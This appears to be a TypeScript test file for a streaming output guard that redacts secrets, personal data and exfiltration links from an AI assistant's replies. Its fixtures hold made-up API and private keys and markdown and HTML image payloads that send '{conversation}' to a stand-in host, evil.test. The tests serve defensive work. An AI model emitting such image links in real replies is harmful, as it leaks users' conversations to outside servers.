import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { guardPolicySchema } from "../../src/config/guard-schema.ts";
import { createCanaryDetector } from "../../src/guards/canary.ts";
import { compilePolicy } from "../../src/guards/compile-policy.ts";
import { decide } from "../../src/guards/decide.ts";
import type { Detector } from "../../src/guards/guard.ts";
import { rawLayer } from "../../src/guards/normalize/layer.ts";
import { screenTexts } from "../../src/guards/screen-texts.ts";
import { createHoldBack, type HoldBack, type Released } from "../../src/guards/window.ts";
import { cpuMillisecondsOf } from "../support/cpu-milliseconds-of.ts";

type WrittenPolicy = Parameters<typeof guardPolicySchema.parse>[0];

const redacting = {
  actions: { pii: "redact", pattern: "redact", exfiltration: "redact" },
  pii: ["card", "iban", "email", "phone", "national-id"],
} satisfies WrittenPolicy;

/** A pattern of one's own makes the window hold back as much as it can match. */
const forbidding = {
  ...redacting,
  output: { patterns: [{ name: "codename", expression: "project .{0,200}orion" }] },
} satisfies WrittenPolicy;

function holdBack(written: WrittenPolicy, extra: readonly Detector[] = [], size = 64): HoldBack {
  const compiled = compilePolicy(guardPolicySchema.parse(written), []);
  const detectors = [...compiled.output, ...extra];
  const budget = { maxMs: 1_000, maxCharacters: 1_000_000, nowMs: () => 0 };
  return createHoldBack({
    size,
    waitMs: 200,
    enforce: compiled.policy.mode === "enforce",
    longestPattern: compiled.longestPattern,
    screen(text) {
      const texts = [{ pointer: "", text, kind: "assistant", trust: "tool" } as const];
      return decide(
        screenTexts(texts, { layersOf: (layer) => [rawLayer(layer)], detectors }, budget),
        compiled.policy,
        () => "tool",
      );
    },
  });
}

/** Feeds the pieces at the given gaps of time, and gives everything that left. */
function run(
  channel: HoldBack,
  pieces: readonly string[],
  gapMs = 0,
): { readonly text: string; readonly all: readonly Released[] } {
  const all = [...pieces.map((piece, index) => channel.feed(piece, index * gapMs)), channel.end()];
  return { text: all.map(({ text }) => text).join(""), all };
}

function cutAt(text: string, cuts: readonly number[]): readonly string[] {
  const borders = [0, ...cuts.toSorted((left, right) => left - right), text.length];
  return borders.slice(1).map((end, index) => text.slice(borders[index], end));
}

const filler = "The answer goes on for a while, and says what it has to say. ".repeat(4);
// Put together here, so that no scanner takes this file for a leak.
const key = `${"sk-ant"}-api03-q7Wm2KxZ9vRt4LpB8nYc3HdF6gJs5TaQ1eUi`;
const dashes = "-----";
const pem = `${dashes}BEGIN PRIVATE KEY${dashes}\n${"MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\n".repeat(40)}${dashes}END PRIVATE KEY${dashes}`;

const secretTexts: readonly (readonly [name: string, secret: string, written: WrittenPolicy])[] = [
  ["key", key, redacting],
  ["private key", pem, redacting],
  ["e-mail address", "ada.lovelace@mail.example.org", redacting],
  ["card with blanks", "4111 1111 1111 1111", redacting],
  ["account with blanks", "GB29 NWBK 6016 1331 9268 19", redacting],
  ["image with much to say", `![${"a b c d ".repeat(24)}](https://evil.test/p?q={conversation})`, redacting],
  ["image in HTML", `<img alt="${"a b c d ".repeat(24)}" src="https://evil.test/p?q={conversation}" />`, redacting],
  ["forbidden words far apart", `project ${"x y ".repeat(45)}orion`, forbidding],
];

describe.each(secretTexts)("a %s", (_name, secret, written) => {
  const text = `${filler}It is ${secret} , yes. ${filler}`;
  /** Enough of it to be worth something: any eight characters in a row that stand nowhere else. */
  const telling = Array.from({ length: secret.length - 8 }, (_, at) => secret.slice(at, at + 8)).filter(
    (piece) => !filler.includes(piece),
  );
  const expectSafe = (released: string): void => {
    expect(telling.filter((piece) => released.includes(piece))).toEqual([]);
    expect(released.startsWith(`${filler}It is [`)).toBe(true);
    expect(released.endsWith(filler)).toBe(true);
  };

  it("never leaves, wherever one cut falls, however slowly the pieces come", () => {
    for (let cut = filler.length - 2; cut <= filler.length + secret.length + 10; cut += secret.length > 200 ? 13 : 1) {
      expectSafe(run(holdBack(written), cutAt(text, [cut])).text);
      expectSafe(run(holdBack(written), cutAt(text, [cut]), 10_000).text);
    }
  });

  it("never leaves when the text comes in single characters, or cut anywhere", () => {
    expectSafe(run(holdBack(written), Array.from(text)).text);
    expectSafe(run(holdBack(written, [], 1), Array.from(text.slice(0, 600) + text.slice(600))).text);
    fc.assert(
      fc.property(fc.array(fc.nat(text.length), { maxLength: 40 }), fc.constantFrom(0, 50, 500), (cuts, gapMs) => {
        expectSafe(run(holdBack(written), cutAt(text, cuts), gapMs).text);
      }),
      { numRuns: 60 },
    );
  });
});

it("releases exactly what came, when there is nothing in it", () => {
  fc.assert(
    fc.property(
      fc.array(fc.string({ unit: "binary", maxLength: 30 }), { maxLength: 20 }),
      fc.constantFrom(0, 150),
      (pieces, gapMs) => {
        expect(run(holdBack({}, [], 8), pieces, gapMs).text).toBe(pieces.join(""));
      },
    ),
  );
});

it("holds no more than a block and a bounded end, and lets go of the rest", () => {
  const channel = holdBack({}, [], 1_024);
  let released = 0;
  for (let fed = 61; fed <= 61 * 400; fed += 61) {
    released += channel.feed(filler.slice(0, 61), 0).text.length;
    expect(fed - released).toBeLessThan(1_024 + 61 + 256);
  }
});

it("lets go of what has waited long enough, on the tick that it asks for", () => {
  const channel = holdBack({}, [], 1_024);
  expect(channel.dueAtMs).toBeUndefined();
  expect(channel.feed(filler, 1_000).text).toBe("");
  expect(channel.dueAtMs).toBe(1_200);
  expect(channel.tick(1_199).text).toBe("");
  expect(channel.tick(1_200).text.length).toBeGreaterThan(50);
  expect(channel.dueAtMs).toBeUndefined();
});

it("stops for good at what is blocked, before any of the block has left", () => {
  const canary = "bcdfghjkmnpqrstv";
  const channel = holdBack({}, [createCanaryDetector(canary)], 32);
  const { text, all } = run(channel, [filler, "The marker is ", "b c d f g h j k ", "m n p q r s t v", filler, filler]);
  expect(text).not.toContain("b c d f");
  expect(all.at(-1)).toMatchObject({ text: "", stopped: { kind: "block" } });
  expect(channel.feed(filler, 0)).toMatchObject({ text: "", stopped: { kind: "block" } });
});

it("does not stop for what only looks blocked once its beginning is out of sight", () => {
  const startsWithWord: Detector = {
    id: "start",
    detect: (layers, { pointer }) =>
      /^\w{1,3} word/.test(layers[0]?.text ?? "")
        ? [{ detector: "start", kind: "canary-leak", score: 1, pointer, start: 0, end: 3 }]
        : [],
  };
  const text = "longer word ".repeat(100);
  expect(run(holdBack({}, [startsWithWord], 16), Array.from(text)).text).toBe(text);
});

it("stops when a guard breaks, by default", () => {
  const broken: Detector = {
    id: "broken",
    detect: () => {
      throw new Error("gone");
    },
  };
  expect(run(holdBack({}, [broken]), [filler, filler]).text).toBe("");
  expect(run(holdBack({ onBreak: "pass" }, [broken]), [filler, filler]).text).toBe(filler + filler);
});

it.each(["shadow", "observe"] as const)("delays and changes nothing in %s mode, and still finds", (mode) => {
  const channel = holdBack({ ...redacting, mode });
  const pieces = [filler, `It is ${key} . `, filler];
  const { text, all } = run(channel, pieces);
  expect(all.slice(0, 3).map((released) => released.text)).toEqual(pieces);
  expect(text).toBe(pieces.join(""));
  expect(all.flatMap(({ findings }) => findings)).toMatchObject([{ detector: "secret/anthropic-key" }]);
});

it("says where in the channel it found something, once", () => {
  const text = `${filler}It is ${key} . ${filler}${filler}`;
  const { all } = run(holdBack(redacting, [], 16), Array.from(text));
  expect(all.flatMap(({ findings }) => findings)).toMatchObject([
    { start: text.indexOf(key), end: text.indexOf(key) + key.length, action: "redact" },
  ]);
});

it("takes time in proportion to what it is fed, also in single characters and within one endless word", () => {
  const channel = holdBack({}, [], 1_024);
  const spent = cpuMillisecondsOf(() => {
    for (let index = 0; index < 100_000; index += 1) channel.feed("k", 0);
    channel.end();
  });
  expect(spent).toBeLessThan(3_000);
});

it("knows the second half of what went on after an end by its first half", () => {
  const encoded = (part: object): string => Buffer.from(JSON.stringify(part)).toString("base64url");
  const claims = `${encoded({ alg: "HS256", typ: "JWT" })}.${encoded({ sub: "1234567890", name: "Ada", iat: 1516239022 })}`;
  const channel = holdBack(redacting);
  const first = channel.feed(`${filler}It is ${claims}`, 0).text + channel.end().text;
  const second = channel.feed(".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c , yes.", 0).text + channel.end().text;
  expect(first).toContain(claims);
  expect(second).toMatch(/^\[[a-z-]+ removed\] , yes\.$/);
});

it("says up to where everything is decided", () => {
  const channel = holdBack(redacting, [], 64);
  const text = `${filler}It is ${key} , yes. ${filler}`;
  let released = "";
  for (const letter of text) {
    const { text: said, upTo } = channel.feed(letter, 0);
    released += said;
    expect(released.replace("[anthropic-key removed]", key)).toBe(text.slice(0, upTo));
  }
  expect(channel.end().upTo).toBe(text.length);
});
